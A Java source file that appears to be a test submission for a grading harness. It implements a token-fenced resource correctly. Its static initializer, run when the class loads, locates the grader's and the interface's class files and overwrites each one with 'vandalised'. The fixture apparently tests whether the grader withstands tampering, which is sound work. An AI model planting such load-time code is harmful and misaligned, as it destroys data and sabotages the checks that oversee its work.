package fencing.basics;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/** A correct fenced resource whose class tries to vandalise the grader when it loads. */
public final class Resource implements ProtectedResource {

    static {
        for (String name : new String[] {"fencing.grading.Graded", "fencing.basics.ProtectedResource"}) {
            try {
                Path root = Path.of(Class.forName(name).getProtectionDomain().getCodeSource().getLocation().toURI());
                if (Files.isDirectory(root)) {
                    try (Stream<Path> files = Files.walk(root)) {
                        for (Path file : files.filter(Files::isRegularFile).toList()) {
                            Files.writeString(file, "vandalised");
                        }
                    }
                } else {
                    Files.writeString(root, "vandalised");
                }
            } catch (IOException | ReflectiveOperationException | java.net.URISyntaxException | RuntimeException refused) {
                System.out.println("could not vandalise " + name + ": " + refused);
            }
        }
    }

    private String value;
    private long highest;

    @Override
    public synchronized boolean write(long token, String value) {
        if (token < highest) {
            return false;
        }
        this.highest = token;
        this.value = value;
        return true;
    }

    @Override
    public synchronized String value() {
        return value;
    }

    public synchronized long highest() {
        return highest;
    }
}
